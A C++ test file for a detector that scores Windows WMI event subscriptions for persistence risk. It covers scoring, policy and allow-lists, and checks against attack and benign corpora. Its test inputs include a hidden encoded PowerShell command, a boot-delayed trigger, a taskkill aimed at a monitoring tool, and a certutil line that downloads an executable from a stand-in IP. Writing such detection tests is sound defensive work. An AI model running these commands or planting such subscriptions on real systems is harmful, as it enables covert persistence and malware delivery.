// Tests for wmisub/assess.hpp: scoring, policy and the quality bar on the shared corpus.
#include "wmisub/assess.hpp"

#include "wmisub/collector.hpp"

#include <doctest/doctest.h>

#if __has_include(<nlohmann/json.hpp>)
#include "corpus.hpp"
#define WMISUB_TEST_HAS_CORPUS 1
#endif

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <set>
#include <memory>
#include <optional>
#include <string>
#include <thread>
#include <type_traits>
#include <utility>
#include <vector>

using namespace wmisub;

namespace {

finding finding_of(severity s, std::string id = "X", evidence_class kind = evidence_class::behaviour) {
    rule r;
    r.id = std::move(id);
    r.title = "t";
    r.evidence_class = kind;
    return finding{std::make_shared<const rule>(std::move(r)), s, {}};
}

finding context_of(severity s) { return finding_of(s, "C", evidence_class::context); }

// The assessments of a scenario. Snapshot and graph die on return: the assessments keep alive
// what their facts point into (AddressSanitizer in CI would catch it otherwise).
std::vector<assessment> assess_source(mock_collector& source, const policy& p = {}) {
    auto snap = source.collect({});
    REQUIRE(snap);
    return assess(subscription_graph(std::move(*snap)), rule_catalog::builtin(), p);
}

}  // namespace

TEST_CASE("the scoring model combines findings as independent evidence") {
    CHECK(score_findings({}).score == 0);
    CHECK(score_findings({}).severity == severity::info);
    CHECK(score_findings({finding_of(severity::info)}).score == 0);
    CHECK(score_findings({finding_of(severity::low)}).score == 15);
    CHECK(score_findings({finding_of(severity::low)}).severity == severity::low);
    CHECK(score_findings({finding_of(severity::medium)}).severity == severity::medium);
    CHECK(score_findings({finding_of(severity::high)}).score == 60);
    CHECK(score_findings({finding_of(severity::high)}).severity == severity::high);
    CHECK(score_findings({finding_of(severity::critical)}).severity == severity::critical);
    CHECK(score_findings({finding_of(severity::medium), finding_of(severity::medium)}).severity == severity::medium);
    CHECK(score_findings({finding_of(severity::medium), finding_of(severity::medium), finding_of(severity::low)}).severity ==
          severity::high);
    const risk many = score_findings(std::vector<finding>(20, finding_of(severity::critical)));
    CHECK(many.score == 100);
    CHECK(severity_of_score(84) == severity::high);
    CHECK(severity_of_score(14) == severity::info);
}

TEST_CASE("behaviour and provenance set the band; context moves the score within it, and alone stays below high") {
    // Context alone: however much of it, at most 59.
    const risk context = score_findings({context_of(severity::high), context_of(severity::high), context_of(severity::medium)});
    CHECK(context.score == context_ceiling);
    CHECK(context.severity == severity::medium);
    CHECK(context.context_only);
    CHECK(context.core_score == 0);
    // One medium behaviour: the band is medium, and context raises it to the band's top, no further.
    const risk medium = score_findings({finding_of(severity::medium), context_of(severity::high), context_of(severity::high)});
    CHECK(medium.core_score == 35);
    CHECK(medium.score == band_ceiling(severity::medium));
    CHECK_FALSE(medium.context_only);
    // One high provenance finding: high; context places it within high.
    const risk high = score_findings({finding_of(severity::high, "P", evidence_class::provenance), context_of(severity::medium)});
    CHECK(high.severity == severity::high);
    CHECK(high.score == 74);
    // Behaviour alone scores as before.
    CHECK(score_findings({finding_of(severity::critical)}).score == 85);
    CHECK(band_floor(severity::low) == 15);
    CHECK(band_ceiling(severity::high) == 84);
    CHECK(band_ceiling(severity::critical) == 100);
}

TEST_CASE("findings carry rule, severity, title, techniques and evidence, highest first") {
    mock_collector source;
    source.filter("F", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                       "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325")
        .command_line_consumer("C", "powershell.exe -nop -w hidden -enc SQBFAFgA")
        .bind("F", "C");
    const auto results = assess_source(source);
    REQUIRE(results.size() == 1);
    const assessment& a = results[0];
    REQUIRE_FALSE(a.findings.empty());
    // Highest severity first; among equals, the catalog's order.
    const rule_catalog catalog = rule_catalog::builtin();
    const auto& rules = catalog.rules();
    const auto catalog_position = [&](const finding& f) {
        return std::find_if(rules.begin(), rules.end(), [&](const auto& r) { return r->id == f.id(); }) - rules.begin();
    };
    for (std::size_t i = 1; i < a.findings.size(); ++i) {
        CHECK(a.findings[i - 1].severity >= a.findings[i].severity);
        if (a.findings[i - 1].severity == a.findings[i].severity) {
            CHECK(catalog_position(a.findings[i - 1]) < catalog_position(a.findings[i]));
        }
    }
    bool boot = false;
    for (const finding& f : a.findings) {
        CHECK_FALSE(f.title().empty());
        CHECK_FALSE(f.evidence.empty());
        if (f.id() == "WMISUB-TRG-001") {
            boot = true;
            CHECK(f.severity == severity::high);  // escalated: the consumer runs code
            CHECK(f.evidence[0].field == "Filter.Query");
            CHECK(f.evidence[0].detail == "runs 240–325 s after boot");
            CHECK(f.techniques()[0] == "T1546.003");
        }
    }
    CHECK(boot);
    CHECK(a.risk.severity == severity::critical);
    CHECK(a.facts.trigger->trigger.kind == trigger_kind::startup);
    CHECK(a.facts.payload->has(indicator_kind::encoded_command));
}

TEST_CASE("policy: disabled rules, severity overrides and allow-listed content") {
    mock_collector source;
    source.filter("F", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'")
        .command_line_consumer("C", "taskkill /f /im procexp64.exe")
        .bind("F", "C");
    const auto plain = assess_source(source);
    CHECK(plain[0].risk.severity >= severity::high);

    policy quiet;
    quiet.disabled_rules = {"WMISUB-TRG-003", "WMISUB-CMB-001"};
    quiet.severity_overrides = {{"WMISUB-PAY-015", severity::info}};
    const auto tuned = assess_source(source, quiet);
    for (const finding& f : tuned[0].findings) {
        CHECK(f.id() != "WMISUB-TRG-003");
        if (f.id() == "WMISUB-PAY-015") CHECK(f.severity == severity::info);
    }
    CHECK(tuned[0].risk.score < plain[0].risk.score);

    policy allow;
    allow.allowed_fingerprints = {fingerprint(*plain[0].facts.filter), fingerprint(*plain[0].facts.consumer)};
    const auto allowed = assess_source(source, allow);
    CHECK(allowed[0].allow_listed);
    CHECK(allowed[0].risk.severity == severity::info);
    CHECK_FALSE(allowed[0].findings.empty());  // kept for the record

    // Fingerprints compare case-insensitively, among many unrelated ones (a baseline's worth).
    policy large;
    for (int i = 0; i < 5000; ++i) large.allowed_fingerprints.push_back("sha256:" + std::to_string(i));
    for (std::string fp : allow.allowed_fingerprints) {
        for (char& c : fp) c = (c >= 'a' && c <= 'z') ? static_cast<char>(c - 'a' + 'A') : c;
        large.allowed_fingerprints.push_back(fp);
    }
    CHECK(assess_source(source, large)[0].allow_listed);
    large.allowed_fingerprints.pop_back();  // only the filter left: not allow-listed
    CHECK_FALSE(assess_source(source, large)[0].allow_listed);

    // Written as the README shows them (`sha256:` before the hex, any case, stray spaces): the same fingerprints.
    policy prefixed;
    for (const std::string& fp : allow.allowed_fingerprints) prefixed.allowed_fingerprints.push_back(" SHA256:" + fp + " ");
    CHECK(assess_source(source, prefixed)[0].allow_listed);
    CHECK(prefixed.allows(allow.allowed_fingerprints[0]));
    CHECK(prefixed.allows("sha256:" + allow.allowed_fingerprints[1]));
    CHECK_FALSE(prefixed.allows(std::string(64, 'a')));

    // The same names with another payload are not allow-listed: content, never names.
    mock_collector changed;
    changed.filter("F", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'")
        .command_line_consumer("C", "powershell -enc SQBFAFgA")
        .bind("F", "C");
    CHECK_FALSE(assess_source(changed, allow)[0].allow_listed);
}

TEST_CASE("assess_each streams the same judgements as assess, in graph order, under the same policy") {
    mock_collector source;
    source.filter("Boot", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                          "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240")
        .command_line_consumer("Run", "powershell -nop -w hidden -enc SQBFAFgA")
        .bind("Boot", "Run")
        .filter("Kill", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'")
        .command_line_consumer("Taskkill", "taskkill /f /im procexp64.exe")
        .bind("Kill", "Taskkill")
        .filter("Unused", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'");
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    policy p;
    p.disabled_rules = {"WMISUB-TRG-003"};
    p.severity_overrides = {{"WMISUB-PAY-015", severity::info}};
    const auto kept = assess(graph, rule_catalog::builtin(), p);
    REQUIRE(kept.size() == graph.entries().size());

    std::size_t seen = 0;
    assess_each(graph, rule_catalog::builtin(), p, [&](const assessment& a) {
        REQUIRE(seen < kept.size());
        const assessment& same = kept[seen];
        CHECK(a.facts.entry == &graph.entries()[seen]);
        CHECK(a.risk.score == same.risk.score);
        CHECK(a.risk.severity == same.risk.severity);
        REQUIRE(a.findings.size() == same.findings.size());
        for (std::size_t i = 0; i < a.findings.size(); ++i) {
            CHECK(a.findings[i].id() == same.findings[i].id());
            CHECK(a.findings[i].severity == same.findings[i].severity);
            CHECK(a.findings[i].evidence == same.findings[i].evidence);
            CHECK(a.findings[i].id() != "WMISUB-TRG-003");
            if (a.findings[i].id() == "WMISUB-PAY-015") CHECK(a.findings[i].severity == severity::info);
        }
        ++seen;
    });
    CHECK(seen == kept.size());
}

TEST_CASE("a finding shares its rule and outlives the catalog that made it") {
    mock_collector source;
    source.filter("F", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'")
        .command_line_consumer("C", "taskkill /f /im procexp64.exe")
        .bind("F", "C");
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    std::vector<assessment> results;
    std::string catalog_title;
    {
        const rule_catalog catalog = rule_catalog::builtin();
        results = assess(graph, catalog);
        REQUIRE(catalog.find("WMISUB-TRG-003") != nullptr);
        catalog_title = catalog.find("WMISUB-TRG-003")->title;
    }
    REQUIRE(results.size() == 1);
    const auto trg = std::find_if(results[0].findings.begin(), results[0].findings.end(),
                                  [](const finding& f) { return f.id() == "WMISUB-TRG-003"; });
    REQUIRE(trg != results[0].findings.end());
    CHECK(trg->title() == catalog_title);
    CHECK(trg->techniques().front() == "T1546.003");
    CHECK(trg->rule->description.size() > 20);  // the whole rule travels with the finding
    const finding empty;
    CHECK(empty.id().empty());
    CHECK(empty.title().empty());
    CHECK(empty.techniques().empty());
}

#ifdef WMISUB_TEST_HAS_CORPUS
namespace {

severity worst(const wmisub_test::corpus_entry& e) {
    const snapshot snap = wmisub_test::entry_snapshot(e);
    const subscription_graph graph(snap);
    severity s = severity::info;
    for (const assessment& a : assess(graph, rule_catalog::builtin())) s = std::max(s, a.risk.severity);
    return s;
}

}  // namespace

TEST_CASE("quality bar: attacks of high or medium confidence score high or above") {
    WMISUB_REQUIRE_SHARED(file, "corpus/attacks.jsonl");
    // PowerLurk's demo payloads write event data to C:\temp\log.txt: byte for byte what admin
    // logging does (tests/data/corpus TB019, TB020), so they stay medium (docs/calibration.md).
    const std::set<std::string> like_admin_logging = {"M009", "M010", "M011", "M013"};
    std::size_t checked = 0;
    for (const auto& e : wmisub_test::load_corpus(file)) {
        const std::string confidence = wmisub_test::string_field(e.raw, "confidence");
        if (confidence != "high" && confidence != "medium") continue;
        CAPTURE(e.id);
        if (like_admin_logging.count(e.id) != 0) {
            CHECK(worst(e) == severity::medium);
        } else {
            CHECK(worst(e) >= severity::high);
        }
        ++checked;
    }
    CHECK(checked >= 30);
}

// tests/data/corpus (ours, each line with its public source): the line every change must hold.
TEST_CASE("quality bar: tests/data/corpus attacks are high or above but for known misses, no benign subscription is") {
    const std::filesystem::path dir = "tests/data/corpus";  // tests run in the source tree
    if (!std::filesystem::exists(dir / "benign.jsonl")) {
        MESSAGE("tests/data/corpus not found from the working directory; skipped");
        return;
    }
    // The attacks still below high (docs/calibration.md lists them with their rules): tools' unit
    // tests and demos whose payload writes a test file or runs a placeholder program, as Microsoft's
    // own samples do, and which no rule separates from admin automation without false alarms. The
    // set is exact: a new miss fails, and so does a fixed one until it leaves this list.
    const std::set<std::string> known_misses = {"TA010", "TA024", "TA034", "TA043", "TA044", "TA045", "TA049",
                                                "TA058", "TA060", "TA061", "TA062", "TA063"};
    std::size_t attacks = 0;
    std::size_t benign = 0;
    std::set<std::string> missed;
    for (const char* name : {"attacks.jsonl", "benign.jsonl"}) {
        for (const auto& e : wmisub_test::load_corpus(dir / name)) {
            CAPTURE(e.id);
            const severity s = worst(e);
            if (e.kind == "malicious") {
                if (s < severity::high) missed.insert(e.id);
                CHECK(s >= severity::low);  // every attack is at least reported
                ++attacks;
            } else {
                CHECK(s < severity::high);
                ++benign;
            }
        }
    }
    CHECK(missed == known_misses);
    CHECK(benign >= 60);
    CHECK(attacks >= 60);
}

namespace {

// The command line as an evader types it: the program name in capitals and every switch in
// mixed case (Windows and PowerShell ignore case in both); literals are left alone.
std::string evasive_spelling(const std::string& command) {
    std::string out = command;
    std::size_t i = 0;
    while (i < out.size() && out[i] != ' ') {
        out[i] = static_cast<char>(std::toupper(static_cast<unsigned char>(out[i])));
        ++i;
    }
    bool flip = false;
    for (; i < out.size(); ++i) {
        if (out[i] == '"' || out[i] == '\'') break;  // leave quoted text (URLs, paths, base64) alone
        const bool in_switch = (out[i - 1] == '-' || out[i - 1] == '/' || (flip && std::isalpha(static_cast<unsigned char>(out[i - 1])))) &&
                               std::isalpha(static_cast<unsigned char>(out[i]));
        if (in_switch) {
            out[i] = static_cast<char>(flip ? std::toupper(static_cast<unsigned char>(out[i])) : std::tolower(static_cast<unsigned char>(out[i])));
            flip = !flip;
        } else {
            flip = false;
        }
    }
    return out;
}

}  // namespace

TEST_CASE("quality bar: attacks stay high or above when their command lines are spelled evasively") {
    const std::filesystem::path file = "tests/data/corpus/attacks.jsonl";
    if (!std::filesystem::exists(file)) {
        MESSAGE("tests/data/corpus not found from the working directory; skipped");
        return;
    }
    std::size_t respelled = 0;
    for (auto e : wmisub_test::load_corpus(file)) {
        if (!e.consumer || worst(e) < severity::high) continue;
        const value* command = e.consumer->get("CommandLineTemplate");
        if (command == nullptr || command->as_string() == nullptr) continue;
        const std::string evasive = evasive_spelling(*command->as_string());
        if (evasive == *command->as_string()) continue;
        e.consumer->set("CommandLineTemplate", value::string(evasive));
        CAPTURE(e.id);
        CAPTURE(evasive);
        CHECK(worst(e) >= severity::high);
        ++respelled;
    }
    CHECK(respelled >= 30);
}

TEST_CASE("quality bar: no benign subscription scores high; Windows built-ins are info or low") {
    WMISUB_REQUIRE_SHARED(file, "corpus/benign.jsonl");
    for (const auto& e : wmisub_test::load_corpus(file)) {
        CAPTURE(e.id);
        const severity s = worst(e);
        CHECK(s < severity::high);
        if (e.family == "windows-builtin") CHECK(s <= severity::low);
    }
}

TEST_CASE("a copy of a benign built-in's names with a new payload scores as the payload deserves") {
    WMISUB_REQUIRE_SHARED(file, "corpus/benign.jsonl");
    for (auto e : wmisub_test::load_corpus(file)) {
        if (e.family != "windows-builtin" || !e.consumer) continue;
        CAPTURE(e.id);
        instance evil = wmisub_test::make_corpus_instance(e.namespace_path, "CommandLineEventConsumer", e.id);
        evil.set("Name", *e.consumer->get("Name"));
        evil.set("CommandLineTemplate", value::string("cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe"));
        e.consumer = evil;
        CHECK(worst(e) >= severity::high);
    }
}
#endif

TEST_CASE("assessments own what their facts point into") {
    mock_collector source;
    source.filter("Updater", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                             "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240")
        .command_line_consumer("Updater", "powershell.exe -nop -w hidden -enc SQBFAFgA")
        .bind("Updater", "Updater");

    SUBCASE("a graph over a temporary, assessed at once") {
        auto snap = source.collect({});
        REQUIRE(snap);
        const std::vector<assessment> results = assess(subscription_graph(std::move(*snap)), rule_catalog::builtin());
        REQUIRE(results.size() == 1);
        REQUIRE(results.front().facts.filter != nullptr);
        CHECK(results.front().facts.filter->name == "Updater");
        CHECK(results.front().facts.trigger != nullptr);
        CHECK(results.front().risk.severity >= severity::high);
    }
    SUBCASE("the caller's snapshot changes after the graph is built") {
        auto snap = source.collect({});
        REQUIRE(snap);
        snapshot mine = *snap;
        const subscription_graph graph(mine);  // a copy: the graph owns its own
        snapshot moved_away = std::move(mine);
        moved_away.filters.clear();
        moved_away.filters.shrink_to_fit();
        const std::vector<assessment> results = assess(graph, rule_catalog::builtin());
        REQUIRE(results.size() == 1);
        REQUIRE(results.front().facts.filter != nullptr);  // was "filter missing" with a borrowed snapshot
        CHECK(results.front().risk.score >= 60);
    }
    SUBCASE("an assessment kept, copied and moved after everything else is gone") {
        std::optional<assessment> kept;
        {
            auto snap = source.collect({});
            REQUIRE(snap);
            const subscription_graph graph(std::move(*snap));
            assess_each(graph, rule_catalog::builtin(), {}, [&](const assessment& a) { kept = a; });
        }
        REQUIRE(kept);
        const assessment copy = *kept;
        kept.reset();
        const assessment moved = copy;
        REQUIRE(moved.facts.filter != nullptr);
        REQUIRE(moved.facts.consumer != nullptr);
        CHECK(moved.facts.filter->query.find("SystemUpTime") != std::string::npos);
        CHECK(moved.facts.snapshot->filters.size() == 1);
        CHECK(moved.facts.entry->state == subscription_state::bound);
    }
    SUBCASE("the value of a temporary result is moved out, not referenced") {
        const snapshot& s = *source.collect({});  // lifetime-extended: operator* on an rvalue returns by value
        CHECK(s.filters.size() == 1);
        static_assert(std::is_same_v<decltype(*std::declval<result<snapshot>>()), snapshot>);
        static_assert(std::is_same_v<decltype(std::declval<result<snapshot>&>().value()), snapshot&>);
    }
}

TEST_CASE("threads share one graph, one catalog and one policy") {
    mock_collector source;
    for (int i = 0; i < 40; ++i) {
        const std::string name = "S" + std::to_string(i);
        source.filter(name, "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
            .command_line_consumer(name, "powershell.exe -nop -w hidden -enc SQBFAFgA" + std::to_string(i))
            .bind(name, name);
    }
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(std::move(*snap));
    const rule_catalog catalog = rule_catalog::builtin();
    const policy shared_policy;
    // Each thread assesses everything and keeps its own results; ThreadSanitizer (CI) checks the sharing.
    std::vector<std::vector<assessment>> per_thread(4);
    std::vector<std::thread> threads;
    for (std::size_t t = 0; t < per_thread.size(); ++t) {
        threads.emplace_back([&, t] { per_thread[t] = assess(graph, catalog, shared_policy); });
    }
    for (std::thread& t : threads) t.join();
    for (const std::vector<assessment>& results : per_thread) {
        REQUIRE(results.size() == per_thread.front().size());
        for (std::size_t i = 0; i < results.size(); ++i) {
            CHECK(results[i].risk.score == per_thread.front()[i].risk.score);
            CHECK(results[i].findings.size() == per_thread.front()[i].findings.size());
        }
    }
    // Assessments handed to another thread after the graph is gone.
    std::vector<assessment> moved = std::move(per_thread.front());
    int high = 0;
    std::thread reader([&] {
        for (const assessment& a : moved) high += a.risk.severity >= severity::high && a.facts.filter != nullptr ? 1 : 0;
    });
    reader.join();
    CHECK(high == 40);
}

TEST_CASE("assess_each: a sink returning false stops the run") {
    mock_collector source;
    for (int i = 0; i < 10; ++i) {
        const std::string name = "S" + std::to_string(i);
        source.filter(name, "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
            .command_line_consumer(name, "cmd.exe /c echo " + name)
            .bind(name, name);
    }
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(std::move(*snap));
    std::size_t seen = 0;
    const std::size_t handed = assess_each(graph, rule_catalog::builtin(), {}, [&](const assessment&) { return ++seen < 3; });
    CHECK(seen == 3);
    CHECK(handed == 3);
    seen = 0;
    CHECK(assess_each(graph, rule_catalog::builtin(), {}, [&](const assessment&) { ++seen; }) == 10);
    CHECK(seen == 10);
}
